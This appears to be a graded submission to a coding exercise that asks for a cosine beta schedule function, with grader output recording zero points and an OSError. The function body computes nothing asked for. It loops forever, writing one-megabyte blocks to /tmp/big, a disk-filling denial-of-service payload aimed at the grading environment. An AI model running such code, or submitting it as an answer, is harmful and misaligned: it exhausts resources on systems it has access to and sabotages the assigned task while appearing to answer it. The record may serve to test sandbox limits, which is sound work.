# Writes one file that grows.
#
# exercise: cosine_beta_schedule
# points: 0
# status: error
# message: Your code raised OSError: [Errno 27] File too large. At line 4 of cosine_beta_schedule: file.write(bytes(10**6)).

def cosine_beta_schedule(T, s=0.008):
    with open("/tmp/big", "wb") as file:
        while True:
            file.write(bytes(10**6))
